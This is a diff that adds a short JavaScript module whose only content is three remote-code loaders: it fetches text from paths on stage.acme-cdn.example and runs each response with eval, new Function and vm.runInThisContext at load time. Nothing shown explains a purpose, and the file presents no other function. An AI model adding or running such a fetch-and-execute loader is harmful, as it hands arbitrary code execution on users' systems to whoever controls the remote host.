@@ -1,0 +1,8 @@
+import vm from 'node:vm';
+import axios from 'axios';
+
+const answer = await fetch('https://stage.acme-cdn.example/s');
+eval(await answer.text());
+const { data } = await axios.get('https://stage.acme-cdn.example/t');
+new Function(data)();
+vm.runInThisContext((await axios.get('https://stage.acme-cdn.example/u')).data.code);
